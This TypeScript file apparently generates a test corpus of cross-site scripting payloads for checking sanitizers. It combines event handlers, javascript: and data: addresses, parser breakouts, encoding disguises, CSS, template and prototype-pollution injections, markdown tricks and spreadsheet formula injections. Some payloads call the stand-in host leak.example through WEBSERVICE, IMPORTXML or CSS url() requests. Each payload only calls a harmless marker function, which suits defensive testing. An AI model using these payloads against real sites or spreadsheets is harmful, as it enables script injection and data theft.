/**
 * Texts that try to run a script where they are taken for markup, an address, a style, a formula, a template or a key, put together by a
 * grammar of this project. The ideas are those of the public lists (OWASP's XSS Filter Evasion and XSS Prevention sheets, PortSwigger's
 * cross-site scripting cheat sheet, html5sec.org, the test fixtures of Cure53's DOMPurify, PayloadsAllTheThings); their texts are not.
 *
 * Each calls `fired` with its number, which nothing else does. A payload that runs tells by that which one it was.
 */

/** What kind of confusion a payload counts on. */
export type PayloadFamily =
  | 'handler'
  | 'address'
  | 'wrapped'
  | 'hidden'
  | 'style'
  | 'template'
  | 'formula'
  | 'markdown'
  | 'script'

export interface Payload {
  readonly number: number
  readonly family: PayloadFamily
  readonly text: string
}

/** The function that a payload calls. */
export const hook = 'fired'

/** A host that nothing may be asked of. */
export const foreignHost = 'leak.example'

type Make = (call: string) => string

/** Elements with what makes each of them do something by itself, where anything does. */
const elements: readonly string[] = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'video><source src=x',
  'iframe src=about:blank',
  'input autofocus',
  'select autofocus',
  'textarea autofocus',
  'details open',
  'marquee',
  'object data=x',
  'embed src=x',
  'a href=# tabindex=1 autofocus',
  'link rel=stylesheet href=x',
  'math',
  'x-y tabindex=1 autofocus',
  'style',
  'button autofocus',
]

const handlers: readonly string[] = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onmouseover',
  'onpointerenter',
  'onclick',
  'onanimationstart',
  'onstart',
  'onbegin',
  'onscroll',
  'onpageshow',
]

/** How an element with a handler may be written. */
const shapes: readonly ((element: string, handler: string, call: string) => string)[] = [
  (element, handler, call) => `<${element} ${handler}=${call}>`,
  (element, handler, call) => `<${element} ${handler}="${call}">`,
  (element, handler, call) => `<${element.toUpperCase()} ${handler.replace('on', 'oN')} = '${call}'`,
  (element, handler, call) => `<${element.replaceAll(' ', '/')}/${handler}=${call}//>`,
  (element, handler, call) => `<${element}\n${handler}\f=\n"${inEntities(call)}">`,
  (element, handler, call) => `"><${element} ${handler}=${call} x="`,
]

/** Every character as a reference, decimal and hexadecimal in turn. */
function inEntities(text: string): string {
  return Array.from(text, (character, at) => {
    const code = character.codePointAt(0) ?? 0
    return at % 2 === 0 ? `&#${code};` : `&#x${code.toString(16)}`.concat(';')
  }).join('')
}

/** Places in markup that take an address. */
const places: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => `<a href="${address}">words</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button>words</button></form>`,
  (address) => `<form><button formaction="${address}">words</button></form>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<svg><a xlink:href="${address}"><text y=9>words</text></a></svg>`,
  (address) => `<svg><use href="${address}#x"></use></svg>`,
  (address) => `<svg><animate attributeName=href values="${address}"/></svg>`,
  (address) => `<math><mi href="${address}">words</mi></math>`,
  (address) => `<base href="${address}//">`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<link rel=import href="${address}">`,
  (address) => `<script src="${address}"></script>`,
  (address) => `<map><area href="${address}" shape=default></map>`,
  (address) => `<img src=x srcset="${address} 2x">`,
  (address) => `<body background="${address}">`,
]

const addresses: readonly Make[] = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `java\tscr\nipt:${call}`,
  (call) => `java&#9;script&#58;${call}`,
  (call) => `\u0001javascript:${call}`,
  (call) => `javascript&colon;${call}`,
  (call) => `javascript://${foreignHost}/%0a${call}`,
  (call) => `&#106;avascript:${call}`,
  (call) => `vbscript:${call}`,
  (call) => `data:text/html,<script>parent.${call}</script>`,
  (call) => `data:text/html;base64,${btoa(`<script>parent.${call}</script>`)}`,
  (call) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.${call}'/>`,
  (call) => `//${foreignHost}/${encodeURIComponent(call)}`,
  (call) => `https://${foreignHost}/?${call}`,
]

/** Markup that runs by itself, to be wrapped and hidden. */
const seeds: readonly Make[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<style onload=${call}></style>`,
  (call) => `<input autofocus onfocus=${call}>`,
]

/** What a parser may read otherwise the second time, or what ends the place in which the text was put. */
const wrappers: readonly ((inner: string) => string)[] = [
  (inner) => `<noscript><p title="</noscript>${inner}">`,
  (inner) => `<template>${inner}</template>`,
  (inner) => `<textarea><p title="</textarea>${inner}">`,
  (inner) => `<title><p title="</title>${inner}">`,
  (inner) => `<style><p title="</style>${inner}">`,
  (inner) => `<xmp><p title="</xmp>${inner}">`,
  (inner) => `<noembed><p title="</noembed>${inner}">`,
  (inner) => `<noframes><p title="</noframes>${inner}">`,
  (inner) => `<!--><p>-->${inner}`,
  (inner) => `<!--a--!>${inner}`,
  (inner) => `<![CDATA[<p>]]>${inner}`,
  (inner) => `<svg><style><p title="</style>${inner}">`,
  (inner) => `<math><mtext><table><mglyph><style><p title="</style>${inner}">`,
  (inner) => `<svg></p><style><g title="</style>${inner}">`,
  (inner) => `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
  (inner) => `<svg><foreignObject>${inner}</foreignObject></svg>`,
  (inner) => `<svg><desc>${inner}</desc></svg>`,
  (inner) => `<math><annotation-xml encoding="text/html">${inner}</annotation-xml></math>`,
  (inner) => `<table><caption>${inner}<td>x`,
  (inner) => `<select><option>${inner}</select>`,
  (inner) => `<select><template></select>${inner}`,
  (inner) => `<button><svg><title>${inner}`,
  (inner) => `<p id="</p>${inner}`,
  (inner) => `' autofocus x='">${inner}`,
  (inner) => `-->${inner}<!--`,
  (inner) => `*/</style>${inner}`,
  (inner) => `</script>${inner}<script>`,
  (inner) => `"}]}</script>${inner}`,
  (inner) => `</title></textarea></style></noscript></template></select></svg></math>${inner}`,
  (inner) => `<<<${inner}`,
  (inner) => `<plaintext>${inner}`,
  (inner) => `<div><template shadowrootmode=open>${inner}</template></div>`,
]

/** Ways to hide markup from those who look for it; most run only where somebody undoes them. */
const disguises: readonly ((markup: string) => string)[] = [
  (markup) => markup.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (markup) => markup.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (markup) => inEntities(markup),
  (markup) => encodeURIComponent(markup),
  (markup) => encodeURIComponent(encodeURIComponent(markup)),
  (markup) => markup.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (markup) => markup.replaceAll('<', '\\x3c').replaceAll('>', '\\x3e'),
  (markup) => markup.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (markup) => markup.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (markup) => markup.replaceAll('<', '<\u200b'),
  (markup) => `\u202e${markup}\u202c`,
  (markup) => `\u2067${markup}`,
  (markup) => `\ufeff${markup}`,
  (markup) => markup.replace('<', '%00<'),
  (markup) => `\u00ad${markup.toUpperCase().replace(/FIRED\([^)]*\)/, (call) => call.toLowerCase())}`,
  (markup) => `${'\u200d'.repeat(40)}${markup}`,
]

const styles: readonly Make[] = [
  (call) => `<p style="width:expression(${call})">`,
  (call) => `<p style="background:url(javascript:${call})">`,
  (call) => `<p style="behavior:url(#default#time2)" onbegin="${call}">`,
  (call) => `<p style="-moz-binding:url(https://${foreignHost}/x.xml#${call})">`,
  (call) => `<style>@import 'https://${foreignHost}/${call}';</style>`,
  (call) => `<style>@import "data:text/css,*{x:expression(${call})}";</style>`,
  (call) => `<style>*{background:url(https://${foreignHost}/${call})}</style>`,
  (call) => `<style>@font-face{font-family:x;src:url(https://${foreignHost}/${call})}*{font-family:x}</style>`,
  (call) => `<link rel=stylesheet href="data:text/css,*{background:url(//${foreignHost}/${call})}">`,
  (call) => `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${call}">`,
  (call) => `</style><style>p{color:red}/*${call}`,
  (call) => `red;background:url('javascript:${call}')`,
]

const templates: readonly Make[] = [
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `{{$on.constructor('${call}')()}}`,
  (call) => `{{_c.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `#{${call}}`,
  (call) => `<%= ${call} %>`,
  (call) => `[[${call}]]`,
  (call) => `{%raw%}{{${call}}}{%endraw%}`,
  (call) => `{"__proto__":{"innerHTML":"<img src=x onerror=${call}>"}}`,
  (call) => `{"constructor":{"prototype":{"onerror":"${call}"}}}`,
  (call) => `__proto__[srcdoc]=<script>${call}</script>`,
  (call) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${call}>"}}`,
  (call) => `<div v-html="'<img src=x onerror=${call}>'" ng-init="${call}" x-init="${call}" hx-on:load="${call}">`,
]

const formulas: readonly Make[] = [
  (call) => `=HYPERLINK("javascript:${call}","words")`,
  (call) => `=cmd|'/c ${call}'!A1`,
  (call) => `+1+${call}`,
  (call) => `-2+3+${call}`,
  (call) => `@SUM(1,${call})`,
  (call) => `\t=1+${call}`,
  (call) => `\uff1dWEBSERVICE("https://${foreignHost}/${call}")`,
  (call) => `'=IMPORTXML("https://${foreignHost}/${call}","//a")`,
  (call) => `;=DDE("${call}";"x";"y")`,
  (call) => `"\n=1+${call}`,
]

const markdown: readonly Make[] = [
  (call) => `[words](javascript:${call})`,
  (call) => `[words](JAVASCRIPT&colon;${call})`,
  (call) => `![words](x"onerror="${call})`,
  (call) => `<javascript:${call}>`,
  (call) => `[words]: javascript:${call}\n\n[words]`,
  (call) => `[words](data:text/html,<script>${call}</script>)`,
  (call) => `\`\`\`"><script>${call}</script>`,
  (call) => `| x |\n| - |\n| <img src=x onerror=${call}> |`,
  (call) => `[a](<x"onclick=${call}//>)`,
  (call) => `# <svg onload=${call}>`,
]

const scripts: readonly Make[] = [
  (call) => call,
  (call) => `';${call}//`,
  (call) => `";${call}//`,
  (call) => `\\';${call}//`,
  (call) => `\\u0022;${call}//`,
  (call) => `\u2028${call}//`,
  (call) => `\`-${call}-\``,
  (call) => `*/${call}/*`,
  (call) => `x);${call};(`,
  (call) => `import('data:text/javascript,${call}')`,
  (call) => `<script type=module>import 'data:text/javascript,parent.${call}'</script>`,
  (call) => `<script>/*</script>*/${call}</script>`,
]

/** Everything with everything of it. */
function* made(): Generator<readonly [PayloadFamily, Make]> {
  for (const element of elements)
    for (const handler of handlers)
      for (const shape of shapes) yield ['handler', (call) => shape(element, handler, call)]
  for (const place of places) for (const address of addresses) yield ['address', (call) => place(address(call))]
  for (const wrapper of wrappers) for (const seed of seeds) yield ['wrapped', (call) => wrapper(seed(call))]
  for (const disguise of disguises) for (const seed of seeds) yield ['hidden', (call) => disguise(seed(call))]
  const plain = { style: styles, template: templates, formula: formulas, markdown, script: scripts } as const
  for (const [family, makers] of Object.entries(plain)) {
    for (const make of makers) {
      yield [family as PayloadFamily, make]
      // The same in the middle of words, and behind what ends an attribute or an element.
      yield [family as PayloadFamily, (call) => `The harbour said ${make(call)} on Monday.`]
      yield [family as PayloadFamily, (call) => `"'></p></a></td></title>${make(call)}`]
      yield [family as PayloadFamily, (call) => make(call).replaceAll('(', '`').replaceAll(')', '`')]
    }
  }
}

/** All payloads, numbered in order from 0; no two are alike but for their number. */
export function scriptPayloads(): readonly Payload[] {
  const known = new Set<string>()
  const payloads: Payload[] = []
  for (const [family, make] of made()) {
    const alike = make(`${hook}(0)`)
    if (known.has(alike)) continue
    known.add(alike)
    const number = payloads.length
    payloads.push({ number, family, text: make(`${hook}(${number})`) })
  }
  return payloads
}
